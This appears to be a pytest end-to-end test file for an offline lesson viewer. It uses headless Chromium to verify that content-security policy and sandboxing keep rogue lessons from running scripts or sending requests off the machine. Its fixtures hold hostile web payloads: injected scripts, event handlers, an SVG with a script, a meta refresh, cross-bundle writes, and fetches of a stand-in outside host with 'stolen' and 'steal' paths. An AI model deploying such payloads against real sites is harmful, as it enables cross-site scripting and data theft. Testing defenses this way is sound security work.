"""``satchel view`` in a real browser: headless Chromium (Debian's, through Playwright) opens
the catalog, the contents and lessons with images, and every request it makes is recorded.

The promise under test: the viewer makes no request outside the laptop. A lesson that names an
outside address is given one that a trap server (on another port, standing in for the
internet) would see; it must see nothing, and every request the page makes must go to the
viewer's own 127.0.0.1:PORT. Images must actually decode (naturalWidth > 0).

Then a rogue teacher's lessons (issue 12, finding 1): scripts, event handlers, a script file,
meta refresh to another host, an SVG with a script opened directly, and a lesson in one bundle
going after another bundle's lesson. None may run or leave the laptop. Chromium runs with a
proxy that is another trap on 127.0.0.1 and every non-loopback request is aborted in the
browser, so even a failing test sends nothing off this machine.
"""

from __future__ import annotations

import http.server
import re
import shutil
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest
from satchel.sync.local import LocalStore
from satchel.sync.updater import Updater

from harness import e2e
from harness.lessons import build_course, png
from harness.repo import RepoFetcher, make_repository, publish, write_tree

CHROMIUM = Path("/usr/bin/chromium")
ARGS = [
    "--no-sandbox",  # CI runs as root
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
    "--disable-default-apps",
    "--disable-extensions",
    "--no-default-browser-check",
]

pytestmark = [
    pytest.mark.skipif(
        not CHROMIUM.exists(),
        reason="needs Debian's chromium at /usr/bin/chromium (CI installs it)",
    ),
    pytest.mark.slow,
]


class Trap(http.server.BaseHTTPRequestHandler):
    hits: list[str] = []  # noqa: RUF012 - one trap per test run, read after the browser closes

    def do_GET(self) -> None:
        Trap.hits.append(self.path)
        self.send_response(204)
        self.end_headers()

    def log_message(self, format: str, *args: object) -> None:
        pass


@pytest.fixture
def trap() -> Iterator[int]:
    Trap.hits = []
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Trap)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield int(server.server_address[1])
    finally:
        server.shutdown()
        server.server_close()


@pytest.fixture
def viewer(tmp_path: Path, trap: int) -> Iterator[str]:
    store = LocalStore(tmp_path / "store", durable=False)
    build_course(make_repository(tmp_path / "srv"), store, tmp_path, trap_port=trap)
    with e2e.satchel_process("view", "--store", store.root, log=tmp_path / "view.log") as url:
        yield url


def test_lessons_load_their_images_and_nothing_leaves_the_laptop(
    viewer: str, trap: int, tmp_path: Path
) -> None:
    sync_api = pytest.importorskip("playwright.sync_api", reason="playwright is in the dev extra")
    requests: list[str] = []  # every request the browser started
    answered: list[str] = []  # ... and those that got a response
    failed: list[tuple[str, str]] = []  # ... and those refused before leaving, with why
    blocked: list[str] = []
    profile = tmp_path / "profile"
    with sync_api.sync_playwright() as pw:
        context = pw.chromium.launch_persistent_context(
            str(profile),
            executable_path=str(CHROMIUM),
            headless=True,
            args=ARGS,
            viewport={"width": 1024, "height": 600},
            service_workers="block",
        )
        try:
            context.on("request", lambda req: requests.append(req.url))
            context.on("response", lambda res: answered.append(res.url))
            context.on("requestfailed", lambda req: failed.append((req.url, str(req.failure))))
            page = context.new_page()
            page.on(
                "console",
                lambda msg: blocked.append(msg.text) if "Content Security" in msg.text else None,
            )

            def visit(path: str) -> None:
                response = page.goto(viewer + path, wait_until="load")
                assert response is not None and response.status == 200, path
                page.wait_for_load_state("networkidle")

            def images_ok() -> list[tuple[str, int]]:
                found = page.eval_on_selector_all(
                    "main img", "imgs => imgs.map(i => [i.getAttribute('src'), i.naturalWidth])"
                )
                return [(str(src), int(width)) for src, width in found]

            visit("/")
            # Keyboard: the first Tab lands on the skip link, which moves focus to the content.
            page.keyboard.press("Tab")
            assert page.evaluate("document.activeElement.textContent") == "Skip to content"
            page.keyboard.press("Enter")
            assert page.evaluate("document.activeElement.id") == "main"
            page.keyboard.press("Tab")
            first = page.evaluate("document.activeElement.getAttribute('href')")
            assert first == "/b/course/en/"
            page.keyboard.press("Enter")
            page.wait_for_url(viewer + "/b/course/en/")
            assert page.locator("html").get_attribute("lang") == "en"

            visit("/b/course/en/current/page/modules/m1/index.cnxml")
            cnxml_images = images_ok()
            assert cnxml_images == [("/b/course/en/1/file/media/chart.png", 64)]
            assert page.locator("main math").count() == 1
            assert page.locator("a.external").count() == 1
            assert page.evaluate("document.documentElement.scrollWidth") <= 1024

            visit("/b/course/en/current/page/episodes/01-intro.md")
            assert images_ok() == [("/b/course/en/1/file/episodes/fig/shell.png", 40)]

            visit("/b/course/es/current/page/modules/m1/index.cnxml")
            assert page.locator("html").get_attribute("lang") == "es"
            assert images_ok() == [("/b/course/es/1/file/media/chart.png", 64)]

            # An HTML page, framed in its sandbox, names an outside image: CSP keeps it from
            # loading. Opened directly, it comes back to the viewer's frame.
            visit("/b/course/en/current/file/pages/plain.html")
            assert page.url == viewer + "/b/course/en/1/page/pages/plain.html"
            (frame,) = [f for f in page.frames if "/_lesson/" in f.url]
            widths = frame.eval_on_selector_all("img", "imgs => imgs.map(i => i.naturalWidth)")
            assert widths == [64, 0]
        finally:
            context.close()
    shutil.rmtree(profile, ignore_errors=True)
    local = viewer + "/"
    # Nothing answered from outside, and the trap (the "internet") saw nothing at all.
    assert [u for u in answered if not u.startswith(local)] == []
    assert Trap.hits == []
    # The one outside attempt (the HTML page's own <img>) was refused by the browser under our
    # Content-Security-Policy before any connection; every other request went to the viewer.
    outside = [u for u in requests if not u.startswith(local)]
    assert outside == [f"http://127.0.0.1:{trap}/outside.png"]
    assert failed == [(outside[0], "csp")], failed  # Chromium: net::ERR_BLOCKED_BY_CSP
    assert any("outside.png" in text or "img-src" in text for text in blocked), blocked
    assert any(u.endswith("/media/chart.png") for u in requests)


# -- issue 12, finding 1: a rogue teacher's lessons ------------------------------------------
OUTSIDE = "http://203.0.113.9/"  # TEST-NET-3: never reached (aborted in the browser, proxied)
ATTACK = (
    """
  document.body.innerHTML = '<h1>PWNED by script</h1>';
  fetch('/').then(r => r.text()).then(t => fetch('/?stolen=' + t.length));
  try { parent.document.body.innerHTML = 'PWNED parent'; } catch (e) {}
  try { top.location = '/b/beta/en/current/page/lesson.html#rewritten'; } catch (e) {}
  var w = window.open('/b/beta/en/current/page/lesson.html');
  if (w) { w.document.write('PWNED beta'); }
  fetch('/b/beta/en/current/file/lesson.html', {method: 'PUT', body: 'PWNED'});
  fetch('"""
    + OUTSIDE
    + """steal');
"""
)
EVIL = f"""<!doctype html><html lang="en"><head><title>Alpha Lesson</title>
<meta http-equiv="refresh" content="0;url={OUTSIDE}refresh">
<script src="app.js"></script>
<script>{ATTACK}</script>
</head><body onload="fetch('/?onload')">
<h1>Alpha lesson text</h1>
<p>A lesson with its picture: <img id="pic" src="pic.png" alt="a picture"></p>
<img src="missing.png" alt="" onerror="fetch('/?onerror'); document.title='PWNED'">
<a href="{OUTSIDE}link" id="out">the internet</a>
<form action="{OUTSIDE}form" method="post"><input name="q" value="x"></form>
</body></html>
"""
ROGUE = {
    "evil.html": EVIL.encode(),
    "app.js": b"document.title = 'PWNED-JS'; fetch('/?js'); fetch('" + OUTSIDE.encode() + b"js');",
    "pic.png": png(48, 24),
    "drawing.svg": (
        b'<svg xmlns="http://www.w3.org/2000/svg" width="80" height="40">'
        b"<script>fetch('/?svg'); document.documentElement.setAttribute('data-pwned', '1')"
        b'</script><rect width="80" height="40" fill="teal"/><text y="20">drawn</text></svg>'
    ),
    "feed.xml": (
        b'<root><meta xmlns="http://www.w3.org/1999/xhtml" http-equiv="refresh"'
        b' content="0;url=' + OUTSIDE.encode() + b'xml"/><item>feed</item></root>'
    ),
}
BETA = {
    "lesson.html": b"<!doctype html><title>Beta Lesson</title><h1>Beta lesson text</h1>"
    b'<img id="pic" src="b.png" alt="b">',
    "b.png": png(30, 30),
}


@pytest.fixture
def rogue_viewer(tmp_path: Path, trap: int) -> Iterator[str]:
    repo = make_repository(tmp_path / "srv")
    store = LocalStore(tmp_path / "store", durable=False)
    publish(repo, write_tree(tmp_path / "alpha", ROGUE), bundle="alpha", title="Alpha")
    publish(repo, write_tree(tmp_path / "beta", BETA), bundle="beta", title="Beta")
    for bundle in ("alpha", "beta"):
        Updater(store, RepoFetcher(repo)).sync(bundle, "en")
    with e2e.satchel_process("view", "--store", store.root, log=tmp_path / "view.log") as url:
        yield url


def test_a_rogue_lesson_runs_nothing_and_nothing_leaves_the_laptop(
    rogue_viewer: str, trap: int, tmp_path: Path
) -> None:
    sync_api = pytest.importorskip("playwright.sync_api", reason="playwright is in the dev extra")
    base = rogue_viewer
    seen: list[tuple[str, str, str]] = []  # (phase, method, url) of every request Chromium made
    aborted: list[str] = []
    phase = ["start"]
    profile = tmp_path / "profile"
    with sync_api.sync_playwright() as pw:
        context = pw.chromium.launch_persistent_context(
            str(profile),
            executable_path=str(CHROMIUM),
            headless=True,
            # Anything not on loopback would go to the trap, never to the network.
            args=[*ARGS, f"--proxy-server=http://127.0.0.1:{trap}"],
            viewport={"width": 1024, "height": 600},
            service_workers="block",
        )
        try:

            def guard(route: Any) -> None:
                if route.request.url.startswith(base + "/"):
                    route.continue_()
                else:
                    aborted.append(route.request.url)
                    route.abort()

            context.route("**/*", guard)
            context.on("request", lambda req: seen.append((phase[0], req.method, req.url)))
            page = context.new_page()
            pages = len(context.pages)  # a persistent context opens with a blank page too

            def visit(name: str, path: str, expect: str) -> None:
                phase[0] = name
                response = page.goto(base + path, wait_until="load")
                assert response is not None and response.status == 200, path
                page.wait_for_load_state("networkidle")
                time.sleep(1.5)  # a 0-second meta refresh would have fired by now
                assert page.url == base + expect, (name, page.url)

            def lesson_frame() -> Any:
                frames = [f for f in page.frames if "/_lesson/" in f.url]
                assert len(frames) == 1, [f.url for f in page.frames]
                return frames[0]

            # The rogue lesson inside the viewer's page.
            visit(
                "alpha", "/b/alpha/en/current/page/evil.html", "/b/alpha/en/current/page/evil.html"
            )
            frame = lesson_frame()
            text = frame.inner_text("body")  # what is shown (the page source holds the script)
            assert "Alpha lesson text" in text and "PWNED" not in text
            assert frame.inner_text("h1") == "Alpha lesson text"
            assert "PWNED" not in page.inner_text("body")
            assert frame.eval_on_selector("#pic", "i => i.naturalWidth") == 48  # images render
            assert frame.evaluate("document.title") == "Alpha Lesson"
            assert page.locator("nav[aria-label=Breadcrumb]").count() == 1
            assert len(context.pages) == pages  # window.open made nothing

            # Opened directly, the HTML lesson comes back to the viewer's frame.
            visit("direct", "/b/alpha/en/1/file/evil.html", "/b/alpha/en/1/page/evil.html")
            assert lesson_frame().inner_text("h1") == "Alpha lesson text"
            assert "PWNED" not in page.inner_text("body") and len(context.pages) == pages

            # An SVG with a script, and XML with a refresh, opened directly: inert.
            visit(
                "svg",
                "/b/alpha/en/current/file/drawing.svg",
                "/b/alpha/en/current/file/drawing.svg",
            )
            assert page.evaluate("document.documentElement.getAttribute('data-pwned')") is None
            visit("xml", "/b/alpha/en/current/file/feed.xml", "/b/alpha/en/current/file/feed.xml")

            # The other bundle's lesson is as it was published.
            visit(
                "beta", "/b/beta/en/current/page/lesson.html", "/b/beta/en/current/page/lesson.html"
            )
            frame = lesson_frame()
            assert frame.inner_text("body").strip() == "Beta lesson text"
            assert frame.eval_on_selector("#pic", "i => i.naturalWidth") == 30
        finally:
            context.close()
    shutil.rmtree(profile, ignore_errors=True)
    # Nothing left the laptop: no request was even tried elsewhere, the trap saw nothing.
    assert aborted == [] and Trap.hits == [], (aborted, Trap.hits)
    assert all(url.startswith(base + "/") for _phase, _method, url in seen), seen
    # Nothing but GETs, and only of the viewer's pages and each lesson's own files: no fetch
    # of "/", nothing a handler or a script would have asked for, no other bundle.
    assert {method for _phase, method, _url in seen} == {"GET"}, seen
    own = {
        "alpha": r"/b/alpha/en/current/page/evil\.html|/_lesson/[0-9a-f]{32}/alpha/en/1/\S+",
        "direct": r"/b/alpha/en/1/(file|page)/evil\.html|/_lesson/[0-9a-f]{32}/alpha/en/1/\S+",
        "svg": r"/b/alpha/en/current/file/drawing\.svg",
        "xml": r"/b/alpha/en/current/file/feed\.xml",
        "beta": r"/b/beta/en/current/page/lesson\.html|/_lesson/[0-9a-f]{32}/beta/en/1/\S+",
    }
    for name, _method, url in seen:
        path = url[len(base) :]
        viewers_own = ("/_/style.css", "/_/viewer.js", "/_/icon.svg")
        assert path in viewers_own or re.fullmatch(own[name], path), (name, path)
        assert "?" not in path and "PWNED" not in path, (name, path)
    lesson_files = {url.rsplit("/", 1)[1] for name, _m, url in seen if "/_lesson/" in url}
    assert lesson_files <= {"evil.html", "pic.png", "missing.png", "app.js", "lesson.html",
                            "b.png"}, lesson_files  # fmt: skip
    beta = httpx.get(f"{base}/b/beta/en/current/file/lesson.html")
    assert beta.content == BETA["lesson.html"]


def test_only_the_viewers_own_script_runs_in_its_pages(rogue_viewer: str, tmp_path: Path) -> None:
    """The viewer's pages run one script, allowed by its hash. A bundle's ``.js`` comes from
    the viewer's own origin, so ``script-src 'self'`` would run it if a page ever named it;
    with the hash it is refused, with or without an ``integrity`` that claims to be ours."""
    sync_api = pytest.importorskip("playwright.sync_api", reason="playwright is in the dev extra")
    from satchel.clients.view_script import SCRIPT_INTEGRITY

    blocked: list[str] = []
    with sync_api.sync_playwright() as pw:
        browser = pw.chromium.launch(executable_path=str(CHROMIUM), headless=True, args=ARGS)
        try:
            page = browser.new_page()
            page.on("console", lambda msg: blocked.append(msg.text))
            response = page.goto(f"{rogue_viewer}/b/alpha/en/current/page/evil.html")
            assert response is not None and response.status == 200
            page.wait_for_load_state("networkidle")
            # The viewer's script ran (it set up the page) ...
            assert page.evaluate("typeof document.body.dataset.bundle") == "string"
            # ... and the lesson's script file, named by the page three ways, never does.
            for integrity in (None, SCRIPT_INTEGRITY, "sha384-" + "A" * 64):
                page.evaluate(
                    """([src, integrity]) => new Promise(done => {
                        const s = document.createElement('script');
                        s.src = src;
                        if (integrity) { s.integrity = integrity; }
                        s.onload = () => done('loaded');
                        s.onerror = () => done('refused');
                        document.head.appendChild(s);
                    })""",
                    [f"{rogue_viewer}/b/alpha/en/1/file/app.js", integrity],
                )
            page.wait_for_timeout(300)
            assert "PWNED" not in page.evaluate("document.title")
            inline = page.evaluate(
                """() => { const s = document.createElement('script');
                           s.textContent = "document.title = 'PWNED-inline'";
                           document.head.appendChild(s); return document.title; }"""
            )
            assert "PWNED" not in inline
        finally:
            browser.close()
    assert any("Content Security Policy" in text for text in blocked), blocked
